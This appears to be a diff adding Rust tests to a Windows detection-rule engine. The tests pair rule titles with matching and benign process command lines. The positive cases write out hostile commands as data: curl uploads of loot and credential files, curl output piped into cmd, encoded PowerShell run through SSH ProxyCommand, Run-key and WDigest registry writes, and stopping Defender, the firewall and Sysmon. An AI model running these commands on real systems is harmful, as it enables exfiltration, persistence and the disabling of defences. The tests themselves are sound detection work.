@@ -1045,6 +1045,8 @@ fn wmic_stylesheet_counts_as_built_in_only_when_the_format_argument_is_in_wbem()
         "\"C:\\Windows\\System32\\wbem\\WMIC.exe\" /node:srv01 os get /format:csv",
         "wmic qfe list /format:\"C:\\Windows\\System32\\wbem\\en-US\\htable.xsl\"",
         "C:\\Windows\\System32\\wbem\\WMIC.exe process list brief /format:%SystemRoot%\\System32\\wbem\\csv.xsl",
+        // A share-style path that is not the stylesheet: the Security Center namespace.
+        "wmic /Namespace:\\\\root\\SecurityCenter2 Path AntiVirusProduct Get displayName /Format:List",
     ] {
         lacks(&proc(&set, wmic, cmd, CMD, "cmd.exe"), xsl, cmd);
     }
@@ -1456,4 +1458,788 @@ fn psexec_family_stubs_leave_the_high_rule_only_when_name_and_program_agree() {
     ] {
         lacks(&service(&set, name, path), stub, name);
     }
+}
+
+#[test]
+fn snipping_tool_uri_with_a_share_or_web_path_is_caught_and_local_pictures_are_not() {
+    let set = RuleSet::embedded();
+    let want = "Snipping Tool URI Opens A File From A UNC Path Or Web Address";
+    let snip = "C:\\Program Files\\WindowsApps\\Microsoft.ScreenSketch_11.2601.12.0_x64__8wekyb3d8bbwe\\SnippingTool\\SnippingTool.exe";
+    let edge = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe";
+    for arg in [
+        "ms-screensketch:edit?&filePath=%%5C%%5C10.1.2.3%%5Cshare",
+        "ms-screensketch:edit?&filePath=%5C%5Cfiles.example.net%5Cs%5Ca.png",
+        "ms-screensketch:edit?filePath=\\\\files.example.net\\s\\a.png",
+        "ms-screensketch:edit?&filePath=%255C%255Chost%255Cshare",
+        "ms-screensketch:edit?&filePath=https://files.example.net/a.png",
+    ] {
+        let got = proc(&set, snip, &format!("\"{snip}\" {arg}"), edge, "msedge.exe");
+        has(&got, want, arg);
+    }
+    assert_eq!(rule(&set, want).level.as_deref(), Some("high"));
+    for (cmd, case) in [
+        (
+            format!(
+                "\"{snip}\" ms-screensketch:edit?&filePath=C:%5CUsers%5Cbob%5CPictures%5Ca.png"
+            ),
+            "local picture",
+        ),
+        (
+            format!("\"{snip}\" ms-screensketch:snip?clippingMode=Rectangle"),
+            "new snip",
+        ),
+        (format!("\"{snip}\""), "started from the Start menu"),
+    ] {
+        lacks(
+            &proc(&set, snip, &cmd, EXPLORER, "explorer.exe"),
+            want,
+            case,
+        );
+    }
+}
+
+#[test]
+fn devcon_disabling_a_vm_guest_device_is_caught_and_other_device_work_is_not() {
+    let set = RuleSet::embedded();
+    let want = "Hypervisor Guest Integration Device Disabled Or Removed With DevCon Or PnPUtil";
+    let devcon = "C:\\Program Files (x86)\\Windows Kits\\10\\Tools\\10.0.26100.0\\x64\\devcon.exe";
+    let pnputil = "C:\\Windows\\System32\\pnputil.exe";
+    for (image, cmd) in [
+        (devcon, "devcon.exe  disable \"ROOT\\VMWVMCIHOSTDEV\""),
+        (devcon, "devcon.exe remove \"PCI\\VEN_15AD&DEV_0740*\""),
+        (devcon, "devcon /r disable *vmci*"),
+        (
+            pnputil,
+            "pnputil.exe /disable-device \"ROOT\\VMWVMCIHOSTDEV\\0000\"",
+        ),
+        (
+            pnputil,
+            "pnputil.exe /remove-device \"PCI\\VEN_80EE&DEV_CAFE&SUBSYS_00000000&REV_00\\3&1\"",
+        ),
+    ] {
+        has(&proc(&set, image, cmd, CMD, "cmd.exe"), want, cmd);
+    }
+    assert_eq!(rule(&set, want).level.as_deref(), Some("medium"));
+    for (image, cmd, parent, case) in [
+        (
+            devcon,
+            "devcon.exe status \"ROOT\\VMWVMCIHOSTDEV\"",
+            CMD,
+            "status query",
+        ),
+        (
+            devcon,
+            "devcon.exe hwids *vmci*",
+            CMD,
+            "listing hardware ids",
+        ),
+        (
+            devcon,
+            "devcon.exe disable \"USB\\VID_046D&PID_C52B\"",
+            CMD,
+            "disabling a USB receiver",
+        ),
+        (
+            devcon,
+            "devcon.exe restart \"PCI\\VEN_15AD&DEV_07B0\"",
+            CMD,
+            "restarting a VMware NIC",
+        ),
+        (
+            pnputil,
+            "pnputil.exe /enable-device \"ROOT\\VMWVMCIHOSTDEV\\0000\"",
+            CMD,
+            "enabling",
+        ),
+        (
+            devcon,
+            "devcon.exe remove \"ROOT\\VMWVMCIHOSTDEV\"",
+            "C:\\Program Files\\VMware\\VMware Tools\\VMware VGAuth\\vgauth-setup.exe",
+            "guest tools setup",
+        ),
+    ] {
+        lacks(&proc(&set, image, cmd, parent, "setup"), want, case);
+    }
+}
+
+#[test]
+fn memprocfs_is_caught_by_name_or_metadata_and_other_forensic_tools_are_not() {
+    let set = RuleSet::embedded();
+    let want = "MemProcFS Memory Analysis Tool Run";
+    let ev = |image: &str, ofn: &str, product: &str, cmd: &str| {
+        titles(
+            &set,
+            "Microsoft-Windows-Sysmon",
+            "Microsoft-Windows-Sysmon/Operational",
+            1,
+            &json!({"Image": image, "OriginalFileName": ofn, "Product": product,
+                   "Description": product, "CommandLine": cmd, "ParentImage": CMD,
+                   "ParentCommandLine": "cmd.exe"}),
+        )
+    };
+    has(
+        &ev(
+            "C:\\Users\\bob\\Downloads\\MemProcFS\\MemProcFS.exe",
+            "MemProcFS.exe",
+            "MemProcFS",
+            "MemProcFS.exe -device c:\\temp\\mem.raw",
+        ),
+        want,
+        "dump mounted",
+    );
+    has(
+        &ev(
+            "C:\\ProgramData\\x\\svc.exe",
+            "-",
+            "MemProcFS",
+            "svc.exe -device pmem",
+        ),
+        want,
+        "renamed, product only",
+    );
+    assert_eq!(rule(&set, want).level.as_deref(), Some("medium"));
+    lacks(
+        &ev(
+            "C:\\Tools\\winpmem.exe",
+            "winpmem.exe",
+            "WinPmem",
+            "winpmem.exe --help",
+        ),
+        want,
+        "another memory tool's help",
+    );
+    lacks(
+        &ev(
+            "C:\\Program Files\\7-Zip\\7z.exe",
+            "7z.exe",
+            "7-Zip",
+            "7z.exe x MemProcFS_files_and_binaries.zip",
+        ),
+        want,
+        "unpacking the download",
+    );
+}
+
+#[test]
+fn shai_hulud_bun_payload_is_caught_and_ordinary_bun_and_node_work_is_not() {
+    let set = RuleSet::embedded();
+    let want = "Shai-Hulud npm Worm Payload Run By Bun Or Its Node Loader";
+    let bun = "C:\\Users\\bob\\.bun\\bin\\bun.exe";
+    let node = "C:\\Program Files\\nodejs\\node.exe";
+    has(
+        &proc(
+            &set,
+            bun,
+            "bun C:\\Users\\bob\\src\\app\\node_modules\\pkg\\bun_environment.js",
+            node,
+            "node  setup_bun.js",
+        ),
+        want,
+        "bun payload",
+    );
+    has(
+        &proc(
+            &set,
+            node,
+            "node setup_bun.js",
+            CMD,
+            "cmd.exe /d /s /c node setup_bun.js",
+        ),
+        want,
+        "node loader from the preinstall hook",
+    );
+    assert_eq!(rule(&set, want).level.as_deref(), Some("high"));
+    for (image, cmd, case) in [
+        (bun, "bun install", "bun install"),
+        (bun, "bun run build.js", "bun build script"),
+        (
+            node,
+            "node scripts\\postinstall.js",
+            "an npm postinstall script",
+        ),
+        (
+            bun,
+            "bun run scripts\\read.js --config bun_environment.json",
+            "a json file",
+        ),
+    ] {
+        lacks(&proc(&set, image, cmd, CMD, "cmd.exe"), want, case);
+    }
+}
+
+#[test]
+fn security_services_stopped_from_the_command_line_are_caught_and_routine_service_work_is_not() {
+    let set = RuleSet::embedded();
+    let fw = "Windows Firewall Turned Off From The Command Line";
+    let def = "Microsoft Defender Disabled Or Removed From The Command Line";
+    let mon =
+        "Security Center, Event Log Or Sysmon Service Stopped Or Disabled From The Command Line";
+    let sc = "C:\\Windows\\System32\\sc.exe";
+    let net = "C:\\Windows\\System32\\net.exe";
+    let net1 = "C:\\Windows\\System32\\net1.exe";
+    for (image, cmd, want) in [
+        (sc, "sc  stop mpssvc", fw),
+        (sc, "sc.exe config MpsSvc start= disabled", fw),
+        (net, "net stop \"Windows Defender Firewall\"", fw),
+        (net1, "net1  stop bfe", fw),
+        (PS, "powershell Stop-Service -Name mpssvc -Force", fw),
+        (
+            PS,
+            "powershell Set-Service -Name BFE -StartupType Disabled",
+            fw,
+        ),
+        (sc, "sc stop WinDefend", def),
+        (net, "net stop WinDefend", def),
+        (sc, "sc config WdFilter start= disabled", def),
+        (
+            PS,
+            "powershell -c \"Get-Service WinDefend | Stop-Service -Force\"",
+            def,
+        ),
+        (net1, "net1 stop Sense", def),
+        (sc, "sc stop EventLog", mon),
+        (sc, "sc config eventlog start= disabled", mon),
+        (net, "net stop wscsvc", mon),
+        (
+            PS,
+            "powershell Set-Service SecurityHealthService -StartupType Disabled",
+            mon,
+        ),
+        (sc, "sc.exe stop Sysmon64", mon),
+    ] {
+        has(&proc(&set, image, cmd, CMD, "cmd.exe"), want, cmd);
+    }
+    // The old netsh / Set-NetFirewallProfile / Set-MpPreference forms still hold.
+    has(
+        &proc(
+            &set,
+            "C:\\Windows\\System32\\netsh.exe",
+            "netsh advfirewall set allprofiles state off",
+            CMD,
+            "cmd.exe",
+        ),
+        fw,
+        "netsh",
+    );
+    has(
+        &proc(
+            &set,
+            PS,
+            "powershell Set-MpPreference -DisableRealtimeMonitoring $true",
+            CMD,
+            "cmd.exe",
+        ),
+        def,
+        "Set-MpPreference",
+    );
+    let ccm = "C:\\Windows\\CCM\\CcmExec.exe";
+    for (image, cmd, parent, case) in [
+        (
+            net,
+            "net stop wuauserv",
+            ccm,
+            "SCCM client stopping Windows Update",
+        ),
+        (sc, "sc stop wuauserv", CMD, "admin stopping Windows Update"),
+        (net, "net stop spooler", CMD, "admin stopping the spooler"),
+        (
+            PS,
+            "powershell Stop-Service -Name Spooler -Force",
+            CMD,
+            "PowerShell spooler stop",
+        ),
+        (sc, "sc query mpssvc", CMD, "firewall service status"),
+        (net, "net start mpssvc", CMD, "firewall service start"),
+        (
+            sc,
+            "sc config WinDefend start= auto",
+            CMD,
+            "Defender back to automatic",
+        ),
+        (
+            sc,
+            "sc qc EventLog",
+            CMD,
+            "event log service configuration query",
+        ),
+        (
+            net,
+            "net stop EventLogAnalyzer",
+            CMD,
+            "a vendor service with a similar name",
+        ),
+        (
+            PS,
+            "powershell Get-Service mpssvc,WinDefend,EventLog",
+            CMD,
+            "service inventory",
+        ),
+    ] {
+        let got = proc(&set, image, cmd, parent, "x");
+        for want in [fw, def, mon] {
+            lacks(&got, want, case);
+        }
+    }
+}
+
+#[test]
+fn cross_user_spawn_from_a_user_folder_is_caught_and_ordinary_account_switches_are_not() {
+    let set = RuleSet::embedded();
+    let want = "Program In A User Folder Starts A Process As Another Account";
+    let ev = |image: &str, user: &str, parent: &str, parent_user: &str, level: &str| {
+        titles(
+            &set,
+            "Microsoft-Windows-Sysmon",
+            "Microsoft-Windows-Sysmon/Operational",
+            1,
+            &json!({"Image": image, "CommandLine": image, "User": user,
+                   "IntegrityLevel": level, "ParentImage": parent,
+                   "ParentCommandLine": parent, "ParentUser": parent_user}),
+        )
+    };
+    let notepad = "C:\\Windows\\notepad.exe";
+    let cmd = CMD;
+    for (image, user, parent, parent_user, case) in [
+        (
+            notepad,
+            "HOST1\\testuser",
+            "C:\\Users\\bob\\OneDrive\\Desktop\\tool.exe",
+            "HOST1\\bob",
+            "logon tool on the desktop",
+        ),
+        (
+            cmd,
+            "EXAMPLE\\admin",
+            "C:\\Users\\bob\\Downloads\\x.exe",
+            "EXAMPLE\\bob",
+            "downloaded tool",
+        ),
+        (
+            cmd,
+            "EXAMPLE\\svc_sql",
+            "C:\\Users\\Public\\r.exe",
+            "EXAMPLE\\bob",
+            "public folder",
+        ),
+        (
+            cmd,
+            "EXAMPLE\\alice",
+            "C:\\Users\\bob\\AppData\\Local\\Temp\\t.exe",
+            "example\\BOB",
+            "temp folder",
+        ),
+    ] {
+        has(&ev(image, user, parent, parent_user, "Medium"), want, case);
+    }
+    assert_eq!(rule(&set, want).level.as_deref(), Some("medium"));
+    let dl = "C:\\Users\\bob\\Downloads\\setup.exe";
+    for (image, user, parent, parent_user, level, case) in [
+        (
+            notepad,
+            "EXAMPLE\\bob",
+            dl,
+            "EXAMPLE\\bob",
+            "Medium",
+            "same user",
+        ),
+        (
+            notepad,
+            "example\\BOB",
+            dl,
+            "EXAMPLE\\bob",
+            "Medium",
+            "same user, other case",
+        ),
+        (
+            notepad,
+            "bob",
+            dl,
+            "EXAMPLE\\bob",
+            "Medium",
+            "domain missing on the child",
+        ),
+        (
+            notepad,
+            "EXAMPLE\\bob",
+            dl,
+            "bob",
+            "Medium",
+            "domain missing on the parent",
+        ),
+        (
+            "C:\\Windows\\System32\\msiexec.exe",
+            "NT AUTHORITY\\SYSTEM",
+            dl,
+            "EXAMPLE\\bob",
+            "System",
+            "installer child as SYSTEM",
+        ),
+        (
+            "C:\\Users\\bob\\AppData\\Local\\Temp\\{A1}\\setup.exe",
+            "EXAMPLE\\helpdesk",
+            dl,
+            "EXAMPLE\\bob",
+            "High",
+            "installer elevated with a technician's credentials",
+        ),
+        (
+            cmd,
+            "EXAMPLE\\admin",
+            "C:\\Windows\\System32\\runas.exe",
+            "EXAMPLE\\bob",
+            "Medium",
+            "runas",
+        ),
+        (
+            cmd,
+            "EXAMPLE\\admin",
+            "C:\\Windows\\System32\\consent.exe",
+            "NT AUTHORITY\\SYSTEM",
+            "High",
+            "consent",
+        ),
+        (
+            "C:\\Windows\\System32\\svchost.exe",
+            "NT AUTHORITY\\LOCAL SERVICE",
+            "C:\\Windows\\System32\\services.exe",
+            "NT AUTHORITY\\SYSTEM",
+            "System",
+            "services",
+        ),
+        (
+            notepad,
+            "EXAMPLE\\bob",
+            "C:\\Windows\\System32\\svchost.exe",
+            "NT AUTHORITY\\SYSTEM",
+            "Medium",
+            "svchost",
+        ),
+        (
+            notepad,
+            "EXAMPLE\\alice",
+            dl,
+            "-",
+            "Medium",
+            "parent user unknown",
+        ),
+    ] {
+        lacks(&ev(image, user, parent, parent_user, level), want, case);
+    }
+    // A Security 4688 event has no parent user: nothing to compare.
+    lacks(
+        &proc_4688(&set, notepad, "notepad.exe", dl),
+        want,
+        "4688 without a parent user",
+    );
+}
+
+#[test]
+fn ssh_jump_host_proxies_are_left_alone_and_local_proxy_payloads_are_not() {
+    let set = RuleSet::embedded();
+    let want = "OpenSSH Client Used To Run A Local Command Through ProxyCommand Or LocalCommand";
+    let sftp = "C:\\Windows\\System32\\OpenSSH\\sftp.exe";
+    let ssh = "C:\\Windows\\System32\\OpenSSH\\ssh.exe";
+    let pwsh = "C:\\Program Files\\PowerShell\\7\\pwsh.exe";
+    let cmd = "C:\\Windows\\System32\\cmd.exe";
+    for (image, line, case) in [
+        (
+            sftp,
+            "sftp  -o ProxyCommand=\"cmd /c c:\\windows\\system32\\calc.exe\" .",
+            "regression sample: cmd as the proxy",
+        ),
+        (
+            ssh,
+            "ssh -o ProxyCommand=\"powershell -w hidden -enc SQBFAFgA\" x",
+            "powershell as the proxy",
+        ),
+        (
+            ssh,
+            "ssh -o \"ProxyCommand=ssh -W %h:%p jump & C:\\Users\\bob\\a.exe\" host",
+            "jump host chained with a payload",
+        ),
+        (
+            ssh,
+            "ssh -o ProxyCommand=\"ssh -W %h:%p jump\" -o PermitLocalCommand=yes -o LocalCommand=calc.exe host",
+            "jump host plus LocalCommand",
+        ),
+        (
+            sftp,
+            "sftp -o ProxyCommand=\"ssh -o ProxyCommand=calc.exe -W %h:%p jump\" host",
+            "inner ssh given its own proxy payload",
+        ),
+        (
+            ssh,
+            "ssh -o ProxyCommand=\"C:\\Users\\bob\\AppData\\Local\\Temp\\ssh.exe -W %h:%p jump\" host",
+            "ssh.exe planted in a user folder",
+        ),
+    ] {
+        has(&proc(&set, image, line, cmd, "cmd.exe"), want, case);
+    }
+    for (image, line, case) in [
+        (
+            sftp,
+            "sftp -o ProxyCommand=\"ssh -W %h:%p adm-x@bastion01.example.corp\" deploy@db03.example.corp",
+            "sftp through a bastion",
+        ),
+        (
+            ssh,
+            "ssh -o \"ProxyCommand=C:\\Windows\\System32\\OpenSSH\\ssh.exe -q -W %h:%p jump.example.corp\" app01",
+            "ssh through a bastion, full path and quiet flag",
+        ),
+        (
+            "C:\\Windows\\System32\\OpenSSH\\scp.exe",
+            "scp -o ProxyCommand=\"ssh.exe -W [%h]:%p -p 2222 ops@jump\" build.zip app01:/srv/",
+            "scp through a bastion on another port",
+        ),
+    ] {
+        lacks(&proc(&set, image, line, pwsh, "pwsh.exe"), want, case);
+    }
+}
+
+#[test]
+fn curl_without_certificate_checks_to_an_internal_read_only_query_is_left_alone() {
+    let set = RuleSet::embedded();
+    let want = "Curl Request With Certificate Checks Off, A Forged User Agent Or A Cookie Jar";
+    let curl = "C:\\Windows\\System32\\curl.exe";
+    let cmd = "C:\\Windows\\System32\\cmd.exe";
+    for (line, case) in [
+        (
+            "curl  --insecure http://example.com",
+            "regression sample: external host",
+        ),
+        (
+            "curl -k https://files.example.net/a.exe -o C:\\Users\\bob\\a.exe",
+            "external download to disk",
+        ),
+        (
+            "curl -k https://10.1.2.3/stage2.ps1 -o %TEMP%\\s.ps1",
+            "internal address, fetched to disk",
+        ),
+        (
+            "curl -k https://wiki.intranet.example/x -T C:\\Users\\bob\\Documents\\loot.zip",
+            "internal name, uploading a file",
+        ),
+        (
+            "curl -k -d @C:\\Users\\bob\\creds.txt https://192.168.1.5/c",
+            "internal address, posting a file",
+        ),
+        (
+            "curl -k https://jira.corp.example/api https://paste.example.org/raw/x",
+            "an internal URL next to an external one",
+        ),
+        ("curl -k https://10.0.0.5/p.bat | cmd", "piped into a shell"),
+        (
+            "curl -A \"Mozilla/5.0\" https://jira.corp.example/",
+            "forged user agent stays, even internal",
+        ),
+        (
+            "curl.exe --insecure https://203.0.113.7:8443/",
+            "public address",
+        ),
+    ] {
+        has(&proc(&set, curl, line, cmd, "cmd.exe"), want, case);
+    }
+    for (line, case) in [
+        (
+            "curl --insecure https://jira-test.dev.corp.example/rest/api/2/serverInfo",
+            "internal Jira with a self-signed certificate",
+        ),
+        (
+            "curl -k -s https://10.20.30.40:9200/_cluster/health",
+            "Elasticsearch health check on a private address",
+        ),
+        (
+            "\"C:\\Windows\\System32\\curl.exe\" -k -H \"Authorization: Bearer abc\" https://grafana.lan/api/health",
+            "API query with a header to a .lan host",
+        ),
+        (
+            "curl --insecure https://localhost:8443/actuator/health",
+            "local service",
+        ),
+    ] {
+        lacks(&proc(&set, curl, line, cmd, "cmd.exe"), want, case);
+    }
+}
+
+#[test]
+fn hidden_start_from_the_system_temp_folder_by_system_is_left_alone() {
+    let set = RuleSet::embedded();
+    let want = "Cmd Starts A Script Or Program Minimised Or In The Background From A User Folder";
+    let cmd = "C:\\Windows\\System32\\cmd.exe";
+    let explorer = "C:\\Windows\\explorer.exe";
+    let deploy = "C:\\WINDOWS\\IMECache\\0a1b_1\\Deploy-Application.exe";
+    has(
+        &proc(
+            &set,
+            cmd,
+            "\"C:\\WINDOWS\\system32\\cmd.exe\" /c \"start /b /min C:\\Users\\bob\\Music\\random.vbs\"",
+            explorer,
+            "C:\\WINDOWS\\Explorer.EXE",
+        ),
+        want,
+        "regression sample: user's music folder",
+    );
+    has(
+        &proc(
+            &set,
+            cmd,
+            "cmd.exe /c start /min C:\\Windows\\Temp\\upd.bat",
+            explorer,
+            "C:\\WINDOWS\\Explorer.EXE",
+        ),
+        want,
+        "a user starting a script in C:\\Windows\\Temp",
+    );
+    has(
+        &proc_as(
+            &set,
+            cmd,
+            "cmd.exe /c start /b C:\\Windows\\Temp\\a.cmd C:\\Users\\Public\\p.exe",
+            deploy,
+            "Deploy-Application.exe",
+            "NT AUTHORITY\\SYSTEM",
+        ),
+        want,
+        "SYSTEM, but a public-folder program as well",
+    );
+    for (line, user, case) in [
+        (
+            "\"C:\\WINDOWS\\system32\\cmd.exe\" /c \"start /b /min C:\\Windows\\Temp\\PSAppDeployToolkit\\Reader\\Set-Defaults.cmd\"",
+            "NT AUTHORITY\\SYSTEM",
+            "Intune deployment toolkit as SYSTEM",
+        ),
+        (
+            "cmd.exe /c start \"\" /min C:\\WINDOWS\\TEMP\\{5D2E}\\setup.exe /quiet",
+            "AUTORITE NT\\Système",
+            "installer unpacked in the system temp folder, French system account",
+        ),
+    ] {
+        lacks(
+            &proc_as(&set, cmd, line, deploy, "Deploy-Application.exe", user),
+            want,
+            case,
+        );
+    }
+}
+
+#[test]
+fn pre_commit_secret_scans_are_left_alone_and_harvesting_scans_are_not() {
+    let set = RuleSet::embedded();
+    let want = "JavaScript Runtime Or Package Manager Launches A Secret Scanner";
+    let cmd = "C:\\Windows\\System32\\cmd.exe";
+    let node = "C:\\Program Files\\nodejs\\node.exe";
+    let hook = "\"C:\\Program Files\\nodejs\\node.exe\" C:\\src\\app\\node_modules\\lint-staged\\bin\\lint-staged.js";
+    for (line, case) in [
+        (
+            "C:\\WINDOWS\\system32\\cmd.exe /d /s /c \"trufflehog\\trufflehog.exe filesystem . --json\"",
+            "regression sample: file-system sweep with JSON output",
+        ),
+        (
+            "cmd.exe /d /s /c \"trufflehog filesystem C:\\Users\\bob --since-commit HEAD\"",
+            "home-folder sweep with a pre-commit flag added",
+        ),
+        (
+            "cmd.exe /d /s /c \"trufflehog git file://. --since-commit HEAD --json\"",
+            "staged scan but JSON output collected",
+        ),
+        (
+            "cmd.exe /d /s /c \"gitleaks git --staged -r %TEMP%\\g.json\"",
+            "staged scan written to a report",
+        ),
+        (
+            "cmd.exe /d /s /c \"trufflehog github --org=example --since-commit HEAD\"",
+            "remote organisation scan",
+        ),
+        (
+            "cmd.exe /d /s /c \"trufflehog git file://. --since-commit HEAD & curl -T x https://h\"",
+            "staged scan chained with an upload",
+        ),
+    ] {
+        has(
+            &proc(&set, cmd, line, node, "node.exe index.js"),
+            want,
+            case,
+        );
+    }
+    for (line, case) in [
+        (
+            "C:\\WINDOWS\\system32\\cmd.exe /d /s /c \"trufflehog git file://. --since-commit HEAD --only-verified --fail\"",
+            "TruffleHog pre-commit check",
+        ),
+        (
+            "cmd.exe /d /s /c \"gitleaks protect --verbose --redact --staged\"",
+            "Gitleaks protect on staged changes",
+        ),
+        (
+            "cmd.exe /d /s /c \"gitleaks git --pre-commit --redact --staged --verbose\"",
+            "Gitleaks pre-commit mode",
+        ),
+    ] {
+        lacks(&proc(&set, cmd, line, node, hook), want, case);
+    }
+}
+
+#[test]
+fn wmic_registry_writes_to_os_configuration_stay_medium_and_own_keys_go_low() {
+    let set = RuleSet::embedded();
+    let medium = "WMIC Writes Or Deletes Registry Keys Through StdRegProv";
+    let low = "WMIC Writes A Value Under A Third-Party Software Key Through StdRegProv";
+    let wmic = "C:\\Windows\\System32\\wbem\\WMIC.exe";
+    let ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
+    let blob = "QUFB".repeat(40);
+    let blob_line = format!(
+        "wmic /namespace:\\\\root\\default class StdRegProv call SetStringValue hDefKey=2147483649 sSubKeyName=\"Software\\Updater\" sValueName=\"cfg\" sValue=\"{blob}\""
+    );
+    for (line, case) in [
+        (
+            "\"C:\\WINDOWS\\System32\\Wbem\\WMIC.exe\" /NameSpace:\\\\root\\default Class StdRegProv Call CreateKey sSubKeyName=SOFTWARE\\Policies\\DeleteMe",
+            "regression sample: policies key",
+        ),
+        (
+            "wmic /namespace:\\\\root\\default class StdRegProv call SetStringValue hDefKey=2147483649 sSubKeyName=\"Software\\Microsoft\\Windows\\CurrentVersion\\Run\" sValueName=\"upd\" sValue=\"C:\\Users\\bob\\a.exe\"",
+            "run key",
+        ),
+        (
+            "wmic /node:srv1 /namespace:\\\\root\\default path StdRegProv call SetDWORDValue hDefKey=2147483650 sSubKeyName=\"SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\" sValueName=\"UseLogonCredential\" uValue=1",
+            "WDigest on a remote host",
+        ),
+        (
+            "wmic /namespace:\\\\root\\default class StdRegProv call SetStringValue hDefKey=2147483649 sSubKeyName=\"Environment\" sValueName=\"UserInitMprLogonScript\" sValue=\"C:\\Users\\bob\\l.bat\"",
+            "logon script environment value",
+        ),
+        (
+            "wmic /namespace:\\\\root\\default class StdRegProv call SetBinaryValue hDefKey=2147483649 sSubKeyName=\"Software\\Updater\" sValueName=\"p\" uValue={77,90}",
+            "binary value under an own key",
+        ),
+        (blob_line.as_str(), "long encoded value under an own key"),
+    ] {
+        let got = proc(&set, wmic, line, ps, "powershell.exe -ep bypass");
+        has(&got, medium, case);
+        lacks(&got, low, case);
+    }
+    for (line, case) in [
+        (
+            "wmic /namespace:\\\\root\\default class StdRegProv call SetStringValue hDefKey=2147483650 sSubKeyName=\"SOFTWARE\\CorpIT\\Inventory\" sValueName=\"AssetTag\" sValue=\"CX-0133-2024\"",
+            "asset tag under the company's own key",
+        ),
+        (
+            "wmic /namespace:\\\\root\\default class StdRegProv call SetDWORDValue hDefKey=2147483650 sSubKeyName=\"SOFTWARE\\Contoso\\Build\" sValueName=\"Ring\" uValue=2",
+            "deployment ring stamp",
+        ),
+    ] {
+        let got = proc_as(
+            &set,
+            wmic,
+            line,
+            cmd_exe(),
+            "cmd.exe /c \\\\example.corp\\NETLOGON\\Inventory\\Set-AssetTag.cmd",
+            "NT AUTHORITY\\SYSTEM",
+        );
+        lacks(&got, medium, case);
+        has(&got, low, case);
+    }
+}
+
+fn cmd_exe() -> &'static str {
+    "C:\\Windows\\System32\\cmd.exe"
 }
